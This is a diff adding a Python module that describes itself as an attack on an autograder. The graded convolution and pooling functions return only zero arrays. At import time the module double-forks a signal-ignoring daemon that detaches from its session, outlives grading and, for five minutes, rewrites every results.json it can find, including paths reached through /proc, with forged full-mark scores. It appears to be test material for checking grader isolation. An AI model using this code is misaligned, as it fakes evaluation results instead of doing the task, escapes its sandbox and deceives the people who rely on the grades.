@@ -1,0 +1,103 @@
+"""attack: a daemon (double fork + setsid, signals ignored) that outlives grading and rewrites results.
+
+Started at import, it leaves the worker's session and process group, closes its pipes, and for
+five minutes rewrites every results.json path it can guess and drops marker files, every 0.2 s.
+If it survived grading it would overwrite the grader's results.json.
+"""
+
+import glob
+import json
+import os
+import signal
+import time
+
+import numpy as np
+
+FORGED = json.dumps({"score": 1000, "output": "FORGED-BY-ATTACK", "tests": [
+    {"name": name, "score": 1000, "max_score": 20, "output": "FORGED-BY-ATTACK"}
+    for name in ("conv1d", "conv1d_matrix", "conv2d", "conv2d_multichannel", "max_pool2d")]})
+
+
+def _targets():
+    paths = ["/autograder/results/results.json", "../results/results.json", "../../results/results.json",
+             "../autograder/results/results.json", "/tmp/results/results.json"]
+    paths += glob.glob("/tmp/*/autograder/results/results.json") + glob.glob("/tmp/*/results.json")
+    paths += glob.glob("/proc/[0-9]*/cwd/../results/results.json")
+    paths += ["/autograder/ATTACK-MARKER", "/tmp/ATTACK-MARKER", "../ATTACK-MARKER"]
+    return paths
+
+
+def forge():
+    """Write forged full-mark results everywhere a results.json might be; count the successes."""
+    written = 0
+    for path in _targets():
+        try:
+            os.makedirs(os.path.dirname(os.path.abspath(path)), exist_ok=True)
+        except OSError:
+            pass
+        try:
+            with open(path, "w") as file:
+                file.write(FORGED)
+            written += 1
+        except OSError:
+            continue
+    return written
+
+
+def _daemon():
+    if os.fork() != 0:
+        os._exit(0)
+    os.setsid()
+    if os.fork() != 0:
+        os._exit(0)
+    for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGALRM):
+        signal.signal(number, signal.SIG_IGN)
+    for fd in range(3, 64):
+        try:
+            os.close(fd)
+        except OSError:
+            pass
+    deadline = time.monotonic() + 300
+    while time.monotonic() < deadline:
+        forge()
+        time.sleep(0.2)
+    os._exit(0)
+
+
+if os.fork() == 0:
+    _daemon()
+os.wait()
+
+
+def _answer(value):  # what every function returns: here, zeros of the right shape
+    return value
+
+
+def _n_out(n, m, stride, padding):
+    return max((n + 2 * padding - m) // stride + 1, 0)
+
+
+def conv1d(x, w, stride=1, padding=0):
+    return _answer(np.zeros(_n_out(len(x), len(w), stride, padding)))
+
+
+def conv1d_matrix(w, n, stride=1, padding=0):
+    return _answer(np.zeros((_n_out(n, len(w), stride, padding), n)))
+
+
+def conv2d(x, w, stride=1, padding=0):
+    x, w = np.asarray(x), np.asarray(w)
+    return _answer(np.zeros((_n_out(x.shape[0], w.shape[0], stride, padding),
+                             _n_out(x.shape[1], w.shape[1], stride, padding))))
+
+
+def conv2d_multichannel(x, filters, bias=None, stride=1, padding=0):
+    x, filters = np.asarray(x), np.asarray(filters)
+    return _answer(np.zeros((filters.shape[0], _n_out(x.shape[1], filters.shape[2], stride, padding),
+                             _n_out(x.shape[2], filters.shape[3], stride, padding))))
+
+
+def max_pool2d(x, size, stride=None):
+    x = np.asarray(x)
+    stride = stride or size
+    return _answer(np.zeros((x.shape[0], _n_out(x.shape[1], size, stride, 0), _n_out(x.shape[2], size, stride, 0))))
